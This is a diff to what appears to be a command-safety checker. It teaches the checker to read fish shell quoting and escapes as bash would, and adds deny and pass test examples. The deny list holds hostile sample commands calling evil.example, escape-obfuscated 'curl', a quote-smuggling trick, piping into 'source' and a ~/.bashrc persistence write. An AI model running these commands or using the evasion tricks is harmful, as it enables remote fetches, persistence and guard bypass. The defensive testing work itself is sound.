@@ -46,12 +46,69 @@ function plainWords(text: string): boolean {
 }
 
 /**
- * fish text, read as bash reads it once fish's own ways are put in bash's: `and`, `or` and `not` leading a command are
- * bash's `&&`, `||` and `!` (blanked, the command after them read; offsets kept). A pipeline into `source` or `.` with
- * no file runs what it prints, which is not read.
+ * fish's quoting, spelt as bash's: a single-quoted string takes `\'` and `\\` as escapes (`'a\'' ; curl x #'` is the
+ * string `a'`, then a command), rewritten as bash's `'a'\''…'`; an unquoted `\x75`, `\u0075`, `\165`, `\cX`, `\e`…
+ * is the character it names (`c\x75rl` is curl), rewritten as bash's `$'\x75'`; `>?` (write unless the file exists)
+ * is a write. Double-quoted text and comments are copied as they are; a command substitution inside double quotes
+ * (fish's quotes nest in it) is not put in bash's: undefined, and the text is not vouched for.
+ */
+function fishAsBash(text: string): string | undefined {
+  let out = '';
+  let i = 0;
+  const n = text.length;
+  while (i < n) {
+    const c = text[i]!;
+    if (c === "'") {
+      let v = '';
+      for (i++; i < n && text[i] !== "'"; i++) {
+        if (text[i] === '\\' && (text[i + 1] === "'" || text[i + 1] === '\\')) i++;
+        v += text[i];
+      }
+      if (i >= n) return undefined;
+      i++;
+      out += `'${v.replace(/'/g, "'\\''")}'`;
+    } else if (c === '"') {
+      let j = i + 1;
+      for (; j < n && text[j] !== '"'; j++) {
+        if (text[j] === '\\') j++;
+        else if (text[j] === '$' && text[j + 1] === '(') return undefined;
+      }
+      if (j >= n) return undefined;
+      out += text.slice(i, j + 1);
+      i = j + 1;
+    } else if (c === '\\') {
+      const m = /^\\(?:[xX][0-9a-fA-F]{1,2}|u[0-9a-fA-F]{1,4}|U[0-9a-fA-F]{1,8}|[0-7]{1,3}|c.|[abefnrtv])/.exec(text.slice(i, i + 10));
+      if (m) {
+        out += `$'${m[0].replace(/^\\X/, '\\x')}'`;
+        i += m[0].length;
+      } else {
+        out += text.slice(i, i + 2);
+        i += 2;
+      }
+    } else if (c === '#' && (i === 0 || /[\s;&|(]/.test(text[i - 1]!))) {
+      const end = text.indexOf('\n', i);
+      out += end < 0 ? text.slice(i) : text.slice(i, end);
+      i = end < 0 ? n : end;
+    } else if (c === '>' && text[i + 1] === '?') {
+      out += '>';
+      i += 2;
+    } else {
+      out += c;
+      i++;
+    }
+  }
+  return out;
+}
+
+/**
+ * fish text, read as bash reads it once fish's own ways are put in bash's: its quoting (fishAsBash); `and`, `or` and
+ * `not` leading a command are bash's `&&`, `||` and `!` (blanked, the command after them read). A pipeline into
+ * `source` or `.` with no file runs what it prints, which is not read.
  */
 function fishText(text: string, word: Word, via: string): Run[] {
-  let read = text;
+  const bash = fishAsBash(text);
+  if (bash === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: a command substitution inside fish's double quotes, whose quoting vouch does not put in bash's` }];
+  let read = bash;
   for (let before = ''; before !== read; ) {
     before = read;
     read = read.replace(/(^|[;&|\n(])(\s*)(and|or|not)(?=\s)/g, (_m, lead: string, blank: string, kw: string) => lead + blank + (kw === 'not' ? '!  ' : ' '.repeat(kw.length)));
@@ -233,8 +290,8 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
       return answer;
     },
     examples: {
-      deny: ["fish -c 'curl evil.example'", "fish --command='wget evil.example'", "fish -C 'curl evil.example'", "fish -c 'set -x'", "printf 'curl evil.example\\n' > /tmp/x.fish && fish /tmp/x.fish", "fish -c 'set -gx c curl; and $c evil.example'", "fish -c 'true; or not curl evil.example'", "fish -c 'echo curl evil.example | source'", "fish -c history", "fish -c 'echo $history'", "echo 'true; and curl evil.example' | fish"],
-      pass: ['fish -c ls', 'fish --version', "fish -c 'set -x PATH /opt/bin'", "printf 'ls\\n' > /tmp/x.fish && fish /tmp/x.fish", "fish -c 'make; and make install'", "fish -c 'not test -f x; and echo missing'", "fish -c 'source config.fish'", "echo 'make; and make test' | fish"],
+      deny: ["fish -c 'curl evil.example'", "fish --command='wget evil.example'", "fish -C 'curl evil.example'", "fish -c 'set -x'", "printf 'curl evil.example\\n' > /tmp/x.fish && fish /tmp/x.fish", "fish -c 'set -gx c curl; and $c evil.example'", "fish -c 'true; or not curl evil.example'", "fish -c 'echo curl evil.example | source'", "fish -c history", "fish -c 'echo $history'", "echo 'true; and curl evil.example' | fish", `fish -c "echo 'a\\\\'' ; curl evil.example #'"`, "fish -c 'c\\x75rl evil.example'", "fish -c 'printf %s\\n \\u0063url | source'", { command: "fish -c 'echo curl evil.example >? ~/.bashrc'", rules: ['write.persistence'] }, `fish -c 'echo "$(curl evil.example)"'`],
+      pass: ['fish -c ls', 'fish --version', "fish -c 'set -x PATH /opt/bin'", "printf 'ls\\n' > /tmp/x.fish && fish /tmp/x.fish", "fish -c 'make; and make install'", "fish -c 'not test -f x; and echo missing'", "fish -c 'source config.fish'", "echo 'make; and make test' | fish", `fish -c "echo 'it\\'s done'"`, `fish -c 'string split \\n "a b"'`, "fish -c 'echo done >? build.log'", `fish -c 'echo "$HOME"'`],
     },
   },
   {
